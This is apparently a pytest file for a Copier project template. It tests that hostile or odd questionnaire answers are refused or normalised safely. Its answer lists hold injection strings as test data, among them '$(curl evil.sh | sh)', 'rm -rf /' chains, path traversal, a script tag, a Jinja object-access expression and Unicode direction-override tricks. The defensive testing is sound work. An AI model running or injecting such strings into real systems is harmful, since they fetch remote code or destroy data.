"""Hostile and odd answers: refused with a clear message and nothing written, or normalised to a
safe value and rendered entirely inside the destination. Adds to test_questionnaire_validation.py
(names, slugs, emails), without repeating its cases.

Copier reports a refused answer by raising ValueError ("Validation error for question ..." or
"Invalid choice for ..."); any other exception is a crash of the template and fails the test.
(The `copier` CLI prints that ValueError with its traceback when the answer came from `--data`;
that is Copier's own reporting, copier-org/copier#1436, and the last line is the message.)
"""

from __future__ import annotations

import json
import re
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import render, run

# What a generated file or directory name may contain: every name comes from the template or the
# validated slug, so a crafted answer can add neither a separator, `..`, a space nor a non-ASCII
# character to a path.
SAFE_NAME = re.compile(r"^[A-Za-z0-9_.@-]+$")
VALID_SLUG = re.compile(r"^[a-z][a-z0-9]*(-[a-z0-9]+)*\Z")
# Files whose content a shell or make interprets: no free-text answer may land in them.
SHELL_INTERPRETED = re.compile(r"(^|/)(Makefile|Dockerfile|[^/]+\.sh|\.github/workflows/.+)$")

REJECTED: list[tuple[str, dict[str, Any], str]] = [
    # (id, answers, words the message must contain)
    # Unicode
    ("name-nul", {"project_name": "Demo\x00Shop"}, "control characters"),
    ("name-rtl-override", {"project_name": "Shop\u202etxt.exe"}, "text-direction"),
    ("name-zero-width-space", {"project_name": "Demo\u200bShop"}, "zero-width"),
    ("name-byte-order-mark", {"project_name": "\ufeffDemo Shop"}, "invisible"),
    ("author-rtl-isolate", {"author_name": "Eve \u2067Mallory\u2069"}, "text-direction"),
    ("description-zero-width-joiner", {"description": "Orders\u200d service"}, "invisible"),
    ("description-nul", {"description": "Orders\x00service"}, "line breaks"),
    (
        "name-hebrew-only",
        {"project_name": "שלום עולם"},
        '"שלום עולם" has none: set project_slug yourself',
    ),
    ("name-emoji-only", {"project_name": "🚀🚀"}, "has none: set project_slug"),
    ("name-digits-only", {"project_name": "2024"}, "has none: set project_slug"),
    ("slug-combining-mark", {"project_slug": "cafe\u0301"}, "is not a valid slug"),
    ("slug-cyrillic-homoglyph", {"project_slug": "\u0430cme"}, "is not a valid slug"),
    ("slug-trailing-newline", {"project_slug": "shop\n", "author_email": "a@b.co"}, "not a valid"),
    ("email-unicode-local-part", {"author_email": "ünï@example.com"}, "not a valid email"),
    ("email-trailing-newline", {"author_email": "team@example.com\n"}, "not a valid email"),
    # Template markers: Copier never evaluates answers, but they would read as unrendered Jinja
    # in every generated file (and the render tier's leftover-Jinja check would fire).
    ("name-jinja-expression", {"project_name": "Shop {{ 7*7 }}"}, "template markers"),
    ("name-jinja-statement", {"project_name": "{% raw %}Shop"}, "template markers"),
    ("description-jinja-comment", {"description": "{# hidden #} Orders."}, "template markers"),
    ("author-jinja-expression", {"author_name": "{{ cycler.__init__ }}"}, "template markers"),
    ("email-jinja-expression", {"author_email": "{{x}}@example.com"}, "not a valid email"),
    ("slug-jinja-expression", {"project_slug": "{{ project_name }}"}, "not a valid slug"),
    # Paths
    ("slug-absolute-path", {"project_slug": "/etc/cron.d"}, "not a valid slug"),
    ("slug-dot-dot", {"project_slug": ".."}, "not a valid slug"),
    ("slug-home", {"project_slug": "~root"}, "not a valid slug"),
    ("description-windows-path", {"description": "C:\\Windows\\System32"}, "backslashes"),
    # Shell metacharacters
    ("name-backticks", {"project_name": "Shop `id`"}, "backticks"),
    ("author-command-substitution", {"author_name": "$(curl evil.sh | sh)"}, "$"),
    ("description-backticks", {"description": "Runs `rm -rf /` nightly."}, "backticks"),
    ("email-semicolon", {"author_email": "a@b.co;reboot"}, "not a valid email"),
    ("email-pipe", {"author_email": "a|b@example.com"}, "not a valid email"),
    ("slug-semicolon", {"project_slug": "shop;rm"}, "not a valid slug"),
    ("slug-dollar", {"project_slug": "$(id)"}, "not a valid slug"),
    # HTML
    ("description-script-tag", {"description": "<script>alert(1)</script>"}, "angle brackets"),
    # Empty and huge
    ("name-10k", {"project_name": "x" * 10_000}, "is 10000 characters long"),
    ("slug-10k", {"project_slug": "a" * 10_000}, '"' + "a" * 37 + '..." is 10000'),
    ("description-10k", {"description": "d" * 10_000}, "(it has 10000)"),
    ("author-empty", {"author_name": ""}, "The author name cannot be empty"),
    ("author-10k", {"author_name": "x" * 10_000}, "100 characters or fewer"),
    ("email-empty", {"author_email": ""}, '"" is not a valid email address'),
    ("email-10k", {"author_email": "a" * 10_000 + "@example.com"}, '"' + "a" * 77 + '..." is not'),
    # Options that do not exist
    ("database-unknown", {"database": "mysql"}, "Invalid choice for 'database'"),
    ("deploy-unknown", {"deploy": "heroku"}, "Invalid choice for 'deploy'"),
    ("team-unknown", {"team": "cobol"}, "Invalid choice for 'team'"),
    ("priority-unknown", {"priority": "fast"}, "Invalid choice for 'priority'"),
    ("architecture-path", {"architecture": "../hybrid"}, "Invalid choice for 'architecture'"),
]


def tree(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


@pytest.mark.parametrize(
    ("answers", "message"), [c[1:] for c in REJECTED], ids=[c[0] for c in REJECTED]
)
def test_hostile_answer_is_refused_before_anything_is_written(
    tmp_path: Path, answers: dict[str, Any], message: str
) -> None:
    """The validator names the problem in a few lines (never echoing a huge answer whole), and
    neither the destination nor anything beside it appears."""
    (tmp_path / "neighbour.txt").write_text("untouched\n")
    before = tree(tmp_path)

    with pytest.raises(ValueError, match=None) as refused:
        render(tmp_path / "project", **answers)

    assert message in str(refused.value)
    assert len(str(refused.value)) < 400
    assert before == tree(tmp_path)


# Accepted, odd answers ############################################################################

ACCEPTED: list[tuple[str, dict[str, Any], str]] = [
    # (id, answers, the slug they must give)
    ("name-dot-dot-slash", {"project_name": "../../x"}, "x"),
    ("name-absolute-path", {"project_name": "/etc/passwd"}, "etc-passwd"),
    ("name-shell-chain", {"project_name": "Orders; rm -rf / | cat"}, "orders-rm-rf-cat"),
    ("name-emoji", {"project_name": "🚀 Rocket Orders"}, "rocket-orders"),
    ("name-combining-mark", {"project_name": "Cafe\u0301 Orders"}, "cafe-orders"),
    ("name-braces", {"project_name": "Orders { beta }"}, "orders-beta"),
    (
        "name-rtl-with-slug",
        {"project_name": "חנות Orders", "project_slug": "hanut-orders"},
        "hanut-orders",
    ),
    (
        "description-shell",
        {"description": "Orders; $(rm -rf /) && echo $HOME | tee /etc/x."},
        "demo-shop",
    ),
    ("author-apostrophe-unicode", {"author_name": "Zoë O'Brien-Łukasz"}, "demo-shop"),
    ("email-plus-tag", {"author_email": "security+orders@example.co.uk"}, "demo-shop"),
]

# hybrid renders every file node-api does (docs/design.md) and the Python service; python-api puts
# that service at services/api, with its own README and compose entries.
ARCHITECTURES = ["python-api", "hybrid"]


def parse_structured(project: Path) -> None:
    """Every JSON, TOML and YAML file parses: no answer broke out of its quotes."""
    for path in project.rglob("*"):
        if path.suffix == ".json":
            json.loads(path.read_text())
        elif path.suffix == ".toml":
            tomllib.loads(path.read_text())
        elif path.suffix in {".yml", ".yaml"}:
            list(yaml.safe_load_all(path.read_text()))


@pytest.mark.parametrize("architecture", ARCHITECTURES)
@pytest.mark.parametrize(
    ("answers", "slug"), [c[1:] for c in ACCEPTED], ids=[c[0] for c in ACCEPTED]
)
def test_odd_answer_renders_safely_inside_the_destination(
    tmp_path: Path, architecture: str, answers: dict[str, Any], slug: str
) -> None:
    """The slug is normalised, every path is plain ASCII inside the destination, nothing is
    written beside it, structured files still parse, and the answer lands verbatim (never
    evaluated) and never in a file a shell interprets."""
    project = render(tmp_path / "project", architecture=architecture, **answers)

    recorded = yaml.safe_load((project / ".copier-answers.yml").read_text())
    assert slug == recorded["project_slug"]
    assert VALID_SLUG.match(slug)
    assert ["project"] == [p.name for p in tmp_path.iterdir()]
    for path in project.rglob("*"):
        assert not path.is_symlink(), path
        assert path.resolve().is_relative_to(project.resolve()), path
        assert all(SAFE_NAME.match(part) for part in path.relative_to(project).parts), path
    parse_structured(project)
    for question, value in answers.items():
        if question == "project_slug":
            continue
        assert value == recorded[question]
        holders = [
            p.relative_to(project).as_posix()
            for p in project.rglob("*")
            if p.is_file() and p.name != ".copier-answers.yml" and value.encode() in p.read_bytes()
        ]
        assert holders, f"{question}={value!r} appears in no generated file"
        assert [] == [name for name in holders if SHELL_INTERPRETED.search(name)]


def test_boolean_answers_given_as_text_mean_what_they_say(tmp_path: Path) -> None:
    """`--data realtime=false` arrives as the string "false": it must turn the option off."""
    project = render(
        tmp_path / "p", architecture="node-api", realtime="false", background_jobs="no"
    )

    recorded = yaml.safe_load((project / ".copier-answers.yml").read_text())
    assert (False, False) == (recorded["realtime"], recorded["background_jobs"])
    assert not (project / "services/api/src/worker.ts").exists()


# Contradictory options ############################################################################
# Options that do not fit together are not refused: the architecture answer wins, what cannot
# apply is left out, and the project stays whole. `missing_imports` is the render-level proof that
# nothing left out is still referenced; each service's own imports are what its checks compile.

TS_IMPORT = re.compile(
    r"""^(?:import|export)\b[^'"]*?from\s+['"](\.{1,2}/[^'"]+)['"]""", re.MULTILINE
)
PY_IMPORT = re.compile(r"^\s*(?:from|import)\s+(app(?:\.\w+)*)", re.MULTILINE)


def missing_imports(project: Path) -> list[str]:
    """Relative TypeScript imports and `app.*` Python imports that name no rendered file."""
    missing = []
    for source in project.rglob("*.ts"):
        if "node_modules" in source.parts:
            continue
        for target in TS_IMPORT.findall(source.read_text()):
            if not (source.parent / target).exists():
                missing.append(f"{source.relative_to(project)} -> {target}")
    for src in project.glob("services/*/src"):
        for source in src.parent.rglob("*.py"):
            for module in PY_IMPORT.findall(source.read_text()):
                base = src.joinpath(*module.split("."))
                if not (base.with_suffix(".py").exists() or (base / "__init__.py").exists()):
                    missing.append(f"{source.relative_to(project)} -> {module}")
    return missing


CONTRADICTIONS: list[tuple[str, dict[str, Any], Callable[[Path], bool]]] = [
    # (id, answers, what the normalised project must show)
    (
        "hybrid-without-ml",
        {"architecture": "hybrid", "ml": "none"},
        lambda p: (
            (p / "services/ml/models/iris.onnx").is_file()
            and "overriding the recommendation" in (p / "docs/adr/0001-architecture.md").read_text()
        ),
    ),
    (
        "node-realtime-without-jobs",
        {"architecture": "node-api", "background_jobs": False, "realtime": True},
        lambda p: not list(p.rglob("*events*.ts")),
    ),
    (
        "python-realtime-without-jobs",
        {"architecture": "python-api", "ml": "none", "background_jobs": False, "realtime": True},
        lambda p: (
            not list(p.rglob("*job_events*")) and not (p / "services/api/src/app/worker").exists()
        ),
    ),
    (
        "hybrid-realtime-without-jobs",
        {"architecture": "hybrid", "ml": "core", "background_jobs": False, "realtime": True},
        lambda p: (
            (p / "services/api/src/routes/v1/jobs/events.ts").is_file()
            and not (p / "services/api/src/worker.ts").exists()
        ),
    ),
    (
        "python-team-on-node-api",
        {"architecture": "node-api", "team": "python", "ml": "core"},
        lambda p: (
            not (p / "services/ml").exists()
            and "overriding the recommendation" in (p / "docs/adr/0001-architecture.md").read_text()
        ),
    ),
    (
        "no-database-on-kubernetes",
        {"architecture": "python-api", "database": "none", "deploy": "kubernetes"},
        lambda p: "postgres" not in (p / "services/api/pyproject.toml").read_text(),
    ),
    (
        "no-database-no-deploy-hybrid",
        {"architecture": "hybrid", "database": "none", "deploy": "none"},
        lambda p: "postgres" not in (p / "package-lock.json").read_text(),
    ),
]


@pytest.mark.parametrize(
    ("answers", "normalised"), [c[1:] for c in CONTRADICTIONS], ids=[c[0] for c in CONTRADICTIONS]
)
def test_contradictory_options_render_a_whole_project(
    tmp_path: Path, answers: dict[str, Any], normalised: Callable[[Path], bool]
) -> None:
    """The option that cannot apply is left out, and no source imports what was left out."""
    project = render(tmp_path / "p", **answers)

    assert normalised(project)
    assert [] == missing_imports(project)


def test_missing_imports_finds_a_dropped_module(tmp_path: Path) -> None:
    """The import check is not vacuous: deleting an imported file is reported."""
    project = render(tmp_path / "p", architecture="hybrid", database="none")
    (project / "services/api/src/errors.ts").unlink()
    (project / "services/ml/src/app/core/errors.py").unlink()

    missing = missing_imports(project)

    assert any(line.endswith("-> ./errors.ts") for line in missing), missing
    assert any(line.endswith("-> app.core.errors") for line in missing), missing


# The projects' own checks, for the oddest accepted answers ########################################
# Two renders (minutes each): the unicode and shell characters reach the places that tools
# parse (package.json, pyproject.toml, the OpenAPI title) and their linters. The rest of the
# accepted cases differ only in text those same files hold, which the render test above parses.

ODD = {
    "project_name": "Café 🚀 Zoë's Orders",
    "description": "Orders; $(rm -rf /) && echo $HOME | tee /etc/x.",
    "author_name": "Zoë O'Brien-Łukasz",
    "database": "none",
    "background_jobs": False,
}


@pytest.mark.generated
def test_odd_answers_node_project_passes_its_own_check(
    rendered_project: Callable[..., Path],
) -> None:
    """node-api with unicode, emoji and shell characters in its answers: npm ci and check pass."""
    project = rendered_project(architecture="node-api", **ODD)
    run(["npm", "ci"], cwd=project)
    run(["npm", "run", "check"], cwd=project)


@pytest.mark.generated
def test_odd_answers_python_project_passes_its_own_check(
    rendered_project: Callable[..., Path],
) -> None:
    """python-api with the same answers: `make check` (ruff, mypy strict, pytest) passes."""
    service = rendered_project(architecture="python-api", ml="none", **ODD) / "services/api"
    run(["uv", "sync", "--locked"], cwd=service)
    run(["make", "check"], cwd=service)
